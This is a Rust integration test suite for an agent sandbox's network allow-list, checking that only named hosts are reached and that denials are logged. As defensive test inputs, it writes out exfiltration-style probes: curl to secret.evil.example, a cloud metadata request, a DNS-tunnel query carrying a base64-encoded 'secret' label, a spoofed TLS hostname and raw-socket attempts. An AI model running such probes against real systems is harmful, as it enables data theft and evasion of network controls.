//! `network: allow`: what its rules name is reached and nothing else, and `superserve sessions network` tells.

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use serde_json::{Value, json};

use crate::process::wait_until;
use crate::request::request;
use crate::skipped::has;
use crate::test::{Test, has_namespaces, started};

/// A web site on this machine, which answers `/N` with so many `x`, `/hold` with one and then nothing, and counts its
/// connections. A POST is answered with how many bytes came.
pub struct Site {
    pub port: u16,
    connections: Arc<AtomicUsize>,
    /// Connections of `/hold` whose other end has gone.
    gone: Arc<AtomicUsize>,
}

impl Site {
    pub fn open() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let port = listener.local_addr().expect("an address").port();
        let (connections, gone) = (Arc::<AtomicUsize>::default(), Arc::<AtomicUsize>::default());
        let (counted, left) = (connections.clone(), gone.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                counted.fetch_add(1, Ordering::SeqCst);
                let left = left.clone();
                std::thread::spawn(move || answer(stream, &left));
            }
        });
        Self { port, connections, gone }
    }

    fn connections(&self) -> usize {
        self.connections.load(Ordering::SeqCst)
    }
}

fn answer(stream: TcpStream, gone: &AtomicUsize) -> std::io::Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut writer = stream;
    let mut first = String::new();
    reader.read_line(&mut first)?;
    let mut length = 0;
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line)? == 0 || line.trim().is_empty() {
            break;
        }
        if let Some(number) = line.to_ascii_lowercase().strip_prefix("content-length: ") {
            length = number.trim().parse().unwrap_or(0);
        }
    }
    let path = first.split(' ').nth(1).unwrap_or("/").trim_start_matches('/').to_owned();
    if path == "hold" {
        writer.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nx")?;
        let _ = reader.read(&mut [0]);
        gone.fetch_add(1, Ordering::SeqCst);
        return Ok(());
    }
    let body = match first.starts_with("POST") {
        true => std::io::copy(&mut reader.take(length), &mut std::io::sink())?.to_string(),
        false => "x".repeat(path.parse().unwrap_or(0)),
    };
    write!(writer, "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}", body.len())
}

/// Makes a session of an agent that runs lines of shell and has these rules; its whole ID.
pub fn online(test: &Test, rules: &[&str]) -> String {
    agent(test, rules, "online", "sh agent.sh", "agent.sh", include_str!("agents/shell/agent.sh"))
}

fn agent(test: &Test, rules: &[&str], name: &str, command: &str, file: &str, text: &str) -> String {
    let rules = json!(rules);
    let yaml = format!("name: {name}\ncommand: {command}\nnetwork: {{allow: {rules}}}\n");
    test.write(&format!("{name}/superserve.yaml"), &yaml);
    test.write(&format!("{name}/{file}"), text);
    test.deploy(test.work().join(name));
    test.create(name)
}

/// An agent that runs lines of Python.
fn python(test: &Test, rules: &[&str]) -> String {
    let text = "import socket, ssl, sys, urllib.request\n\
        while True:\n    line = input()\n    try: exec(line)\n    except Exception as e: print(type(e).__name__, e)\n";
    agent(test, rules, "python", "python3 agent.py", "agent.py", text)
}

/// Whether curl's connection was refused: at once or, as it is reset when it has been decided, a moment later.
pub fn refused(said: &str) -> bool {
    ["reset by peer", "Failed to connect"].iter().any(|words| said.contains(words))
}

/// What was decided, as `DECISION TARGET REASON`.
fn decisions(test: &Test, id: &str) -> Vec<String> {
    let entries = test.json(["sessions", "network", id, "--json"]);
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let line = |entry: &Value| {
        let port = entry["port"].as_u64().map(|port| format!(":{port}")).unwrap_or_default();
        let line =
            format!("{} {}{port} {}", text(&entry["decision"]), text(&entry["host"]), text(&entry["reason"]));
        line.trim_end().to_owned()
    };
    entries.as_array().expect("an array").iter().map(line).collect()
}

/// The name that this machine has for itself, if it means loopback alone.
fn own_name() -> Option<String> {
    use std::net::ToSocketAddrs;
    let name = fs::read_to_string("/proc/sys/kernel/hostname").ok()?.trim().to_ascii_lowercase();
    let mut found = (name.as_str(), 80).to_socket_addrs().ok()?;
    (name != "localhost" && found.all(|at| at.ip().to_string() == "127.0.0.1")).then_some(name)
}

macro_rules! needs {
    ($($program:literal),*) => {
        if !has_namespaces() {
            skip!("this machine refuses the sandbox");
        }
        $(if !has($program) {
            skip!("{} is not on this machine", $program);
        })*
    };
}

#[test]
fn what_a_rule_names_is_reached_and_nothing_else() {
    needs!("curl");
    let (site, other) = (Site::open(), Site::open());
    let test = Test::new();
    let allowed = format!("127.0.0.1:{}", site.port);
    let id = online(&test, &[&allowed, &format!("*.example.org:{}", other.port), "api.example.com"]);
    assert_eq!(test.send(&id, &format!("curl -sS http://{allowed}/10")), "xxxxxxxxxx\n");
    assert_eq!(
        test.send(
            &id,
            &format!("head -c 3000000 /dev/zero | curl -sS -H Expect: --data-binary @- http://{allowed}/")
        ),
        "3000000\n"
    );
    let cases = [
        // The host's loopback at a port that is open for others.
        (format!("127.0.0.1:{}", other.port), "denied TARGET no rule names this address"),
        // An address out there, and that of the metadata.
        ("1.1.1.1:80".to_owned(), "denied TARGET no rule names this address"),
        ("169.254.169.254:80".to_owned(), "denied TARGET no rule names this address"),
    ];
    let mut expected = vec![format!("allowed {allowed}"), format!("allowed {allowed}")];
    for (target, decided) in cases {
        let said = test.send(&id, &format!("curl -sS http://{target}/"));
        assert!(refused(&said), "{target}: {said}");
        expected.push(decided.replace("TARGET", &target));
    }
    assert!(test.send(&id, "curl -sS http://secret.evil.example/").contains("Could not resolve host"));
    expected.push("denied secret.evil.example no rule names it".to_owned());
    // The rule is for other ports.
    let said = test.send(&id, &format!("curl -sS http://api.example.com:{}/", site.port));
    assert!(refused(&said), "{said}");
    expected.push(format!("denied api.example.com:{} no rule names this host and port", site.port));
    // Where nobody listens there is an answer at once.
    let said = test.send(&id, "curl -sS -m 20 http://8.8.8.8:22/; curl -sS -m 20 http://api.example.com:22/");
    assert_eq!(said.matches("Failed to connect").count(), 2, "{said}");
    assert!(
        test.send(&id, "curl -sS -m 20 -g 'http://[2606:4700:4700::1111]/'").contains("Failed to connect")
    );
    assert_eq!(decisions(&test, &id), expected);
    assert_eq!((site.connections(), other.connections()), (2, 0));
    let uploaded = &test.json(["sessions", "network", &id, "--json"])[1];
    wait_until("the bytes to be counted", || {
        test.json(["sessions", "network", &id, "--json"])[1]["sent"].as_u64() > Some(3_000_000)
    });
    assert_eq!(uploaded["at"], "2026-03-09T10:15:00Z");
    test.args(["sessions", "network", &id])
        .stdout_part("denied    169.254.169.254:80")
        .stdout_part("no rule names this address")
        .run();
    // The log survives the server, and goes with the session.
    test.kill_server();
    assert_eq!(decisions(&test, &id), expected);
    test.args(["sessions", "end", &id]).any_stderr().run();
    assert_eq!(decisions(&test, &id), expected);
    test.args(["sessions", "delete", &id, "--yes"]).any_stderr().run();
    test.args(["sessions", "network", &id]).any_stderr().status(3).run();
}

#[test]
fn a_name_leads_to_private_addresses_only_if_they_are_named_too() {
    needs!("curl", "node");
    let Some(name) = own_name() else { skip!("this machine has no name for its loopback") };
    let (site, test) = (Site::open(), Test::new());
    let port = site.port;
    let id = online(&test, &[&format!("{name}:{port}")]);
    let get = format!("curl -sS http://{name}:{port}/10");
    assert!(refused(&test.send(&id, &get)));
    let private =
        format!("denied {name}:{port} it is at 127.0.0.1, which is private and which no rule names");
    assert_eq!(decisions(&test, &id), [private]);
    assert_eq!(site.connections(), 0);

    let id = online(&test, &[&format!("{name}:{port}"), &format!("127.0.0.0/8:{port}")]);
    assert_eq!(test.send(&id, &get), "xxxxxxxxxx\n");
    let fetch = format!("node -e 'fetch(\"http://{name}:{port}/5\").then(r => r.text()).then(console.log)'");
    assert_eq!(test.send(&id, &fetch), "xxxxx\n");
    assert_eq!(decisions(&test, &id), vec![format!("allowed {name}:{port}"); 2]);
    // The name's own address, which stands for it here alone.
    let said = test.send(&id, &format!("curl -sSv http://{name}:{port}/1 2>&1"));
    assert!(said.contains("198.18.0.1"), "{said}");
    if has("python3") {
        let id = python(&test, &[&format!("{name}:{port}"), &format!("127.0.0.0/8:{port}")]);
        let get = format!("print(urllib.request.urlopen('http://{name}:{port}/7').read().decode())");
        assert_eq!(test.send(&id, &get), "xxxxxxx\n");
    }
}

#[test]
fn tls_is_for_the_name_that_the_connection_was_opened_to() {
    needs!("python3");
    let test = Test::new();
    let id = python(&test, &["*.example.invalid:443"]);
    let tls = |host: &str, server: &str| {
        format!(
            "s = socket.create_connection(('{host}.example.invalid', 443)); \
             ssl.create_default_context().wrap_socket(s, server_hostname='{server}')"
        )
    };
    for line in [
        tls("a", "b.example.invalid"),
        tls("a", "evil.example"),
        tls("a", "a.example.invalid"),
        "s = socket.create_connection(('a.example.invalid', 443)); s.sendall(b'GET / HTTP/1.1\\r\\n\\r\\n'); print(s.recv(10))"
            .to_owned(),
    ] {
        let said = test.send(&id, &line);
        assert!(said.contains("ConnectionResetError"), "{line}: {said}");
    }
    let mismatch = "TLS asks for it, but the connection is to a.example.invalid";
    assert_eq!(
        decisions(&test, &id),
        [
            format!("denied b.example.invalid:443 {mismatch}"),
            format!("denied evil.example:443 {mismatch}"),
            // Which no name server knows: so far it was allowed.
            "allowed a.example.invalid:443 no address is known for it".to_owned(),
            "denied a.example.invalid:443 it is no TLS connection".to_owned(),
        ]
    );
}

#[test]
fn nothing_gets_out_by_other_ways() {
    needs!("python3");
    let listener = UdpSocket::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("a socket");
    let port = listener.local_addr().expect("an address").port();
    let test = Test::new();
    let id = python(&test, &[&format!("127.0.0.1:{port}"), "*.example.com"]);
    let query = "q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' \
        + b''.join(bytes([len(l)]) + l for l in NAME.split(b'.')) + b'\\x00\\x00\\x01\\x00\\x01'";
    let ask = |server: &str, name: &str| {
        format!(
            "{}; u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(20); u.connect(('{server}', 53)); \
             u.send(q); print(u.recv(500)[3] & 15, 'from {server}')",
            query.replace("NAME", &format!("b'{name}'"))
        )
    };
    // Whatever name server is asked, it is ours that answers: 0 there is one, 3 there is none.
    assert_eq!(test.send(&id, &ask("127.0.0.1", "a.example.com")), "0 from 127.0.0.1\n");
    assert_eq!(test.send(&id, &ask("8.8.8.8", "a.example.com")), "0 from 8.8.8.8\n");
    assert_eq!(test.send(&id, &ask("8.8.8.8", "c2VjcmV0.evil.example")), "3 from 8.8.8.8\n");
    let tcp = format!(
        "{}; t = socket.create_connection(('9.9.9.9', 53)); t.sendall(len(q).to_bytes(2, 'big') + q); \
         print(t.recv(500)[5] & 15)",
        query.replace("NAME", "b'a.example.com'")
    );
    assert_eq!(test.send(&id, &tcp), "0\n");
    let udp = format!(
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('127.0.0.1', {port})); u.send(b'out'); u.send(b'out')"
    );
    assert!(test.send(&id, &udp).contains("ConnectionRefusedError"));
    let udp = udp.replace("127.0.0.1", "1.1.1.1");
    assert!(test.send(&id, &udp).contains("ConnectionRefusedError"));
    assert!(listener.recv(&mut [0; 9]).is_err(), "nothing has arrived");
    let raw = test.send(&id, "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)");
    assert!(raw.contains("PermissionError"), "{raw}");
}

#[test]
fn a_denial_is_told_once_a_run() {
    needs!("curl");
    let test = Test::new();
    online(&test, &["api.example.com"]);
    let line = "for i in 1 2; do curl -s http://1.2.3.4/; curl -s http://evil.example/; done; echo done";
    let run = test.args(["run", "online", line, "--single", "--json"]).any_stdout().any_stderr().run();
    let told: Vec<Value> = run
        .stdout
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).expect("JSON"))
        .filter(|event| event["type"] == "status")
        .map(|event| event["data"]["content"].clone())
        .collect();
    assert_eq!(told, ["egress denied 1.2.3.4:80", "egress denied evil.example"], "{}", run.stdout);
    let id = started(&run.stdout).expect("a session");
    let again = test.args(["sessions", "network", &id]).any_stdout().run();
    assert_eq!(again.stdout.matches("1.2.3.4:80").count(), 2, "{}", again.stdout);
}

#[test]
fn many_large_transfers_at_once_arrive_whole() {
    needs!("curl");
    let (site, test) = (Site::open(), Test::new());
    let id = online(&test, &[&format!("127.0.0.1:{}", site.port)]);
    let line = format!(
        "for i in 1 2 3 4 5 6 7 8; do curl -sS http://127.0.0.1:{}/5000000 | wc -c & done; wait",
        site.port
    );
    assert_eq!(test.send(&id, &line), "5000000\n".repeat(8));
    wait_until("the bytes to be counted", || {
        let entries = test.json(["sessions", "network", &id, "--json"]);
        let entries = entries.as_array().expect("an array");
        entries.len() == 8 && entries.iter().all(|entry| entry["received"].as_u64() > Some(5_000_000))
    });
}

#[test]
fn the_end_of_a_session_ends_its_connections() {
    needs!("curl");
    let (site, test) = (Site::open(), Test::new());
    let id = online(&test, &[&format!("127.0.0.1:{}", site.port)]);
    let server = test.server();
    let open = || fs::read_dir(format!("/proc/{}/fd", server.pid)).expect("descriptors").count();
    // What the store opens at its first use stays open.
    test.begin("online", "echo warm");
    let before = open();
    test.send(
        &id,
        &format!(
            "for i in 1 2 3; do curl -s http://127.0.0.1:{}/hold >/dev/null 2>&1 </dev/null & done",
            site.port
        ),
    );
    wait_until("the connections", || site.connections() == 3);
    assert!(open() > before + 9, "sockets of the session and both ends of its connections");
    assert_eq!(site.gone.load(Ordering::SeqCst), 0);
    test.args(["sessions", "end", &id]).any_stderr().run();
    wait_until("the site to see their end", || site.gone.load(Ordering::SeqCst) == 3);
    wait_until("nothing to be left open", || open() <= before);
}

#[test]
fn rules_that_make_no_sense_are_refused_on_both_sides() {
    let test = Test::new();
    test.write("bad/agent.sh", "cat");
    for (network, says) in [
        (
            "{allow: ['example.com:99999']}",
            "network rule 'example.com:99999': a port is a number from 1 to 65535",
        ),
        ("{allow: ['*.']}", "network rule '*.'"),
        ("{allow: []}", "network allows nothing"),
        ("everything", "network 'everything' is not none, host, allow"),
    ] {
        test.write("bad/superserve.yaml", &format!("name: bad\ncommand: sh agent.sh\nnetwork: {network}\n"));
        test.args(["deploy", "--dir", "bad"]).stderr_part(says).status(2).run();
    }
    test.args(["server", "start"]).any_stderr().run();
    let config = r#"{"name":"bad","command":"cat","network":{"allow":["10.0.0.0/40"]}}"#;
    let body =
        format!("--xyz\r\nContent-Disposition: form-data; name=\"config\"\r\n\r\n{config}\r\n--xyz--\r\n");
    let answer = request_multipart(&test, &body);
    assert!(answer.contains("422 Unprocessable"), "{answer}");
    assert!(answer.contains("network rule '10.0.0.0/40'"), "{answer}");
    test.args(["agents", "list", "--json"]).stdout("[]\n").any_stderr().run();
}

fn request_multipart(test: &Test, body: &str) -> String {
    let socket = test.home().join("run/server.sock");
    let mut stream = std::os::unix::net::UnixStream::connect(socket).expect("the server");
    let head = "POST /v1/agents HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n";
    let kind = "Content-Type: multipart/form-data; boundary=xyz\r\n";
    write!(stream, "{head}{kind}Content-Length: {}\r\n\r\n{body}", body.len()).expect("a request");
    let mut answer = String::new();
    stream.read_to_string(&mut answer).expect("an answer");
    answer
}

#[test]
fn the_web_is_the_default_and_the_rules_are_shown() {
    let test = Test::new();
    test.deploy("echo");
    let web = json!({ "allow": ["*:80,443"] });
    assert_eq!(test.json(["agents", "get", "echo", "--json"])["network"], web);
    test.args(["agents", "get", "echo"]).stdout_part("allow *:80,443").run();
    let id = test.create("echo");
    test.args(["sessions", "network", &id, "--json"]).stdout("[]\n").run();
    test.args(["sessions", "network", &id]).stderr_part("Nothing was decided").run();
    assert_eq!(
        request(&test, "GET", &format!("/sessions/{id}/network"), None).json(),
        json!({ "entries": [] })
    );
    let (test, site) = (Test::unsandboxed(), Site::open());
    if has("curl") {
        let id = online(&test, &["api.example.com"]);
        assert_eq!(test.send(&id, &format!("curl -sS http://127.0.0.1:{}/3", site.port)), "xxx\n");
        test.args(["sessions", "get", &id])
            .stdout_part("Isolation    none (network rules don't hold: it has the host's network)")
            .run();
    }
}
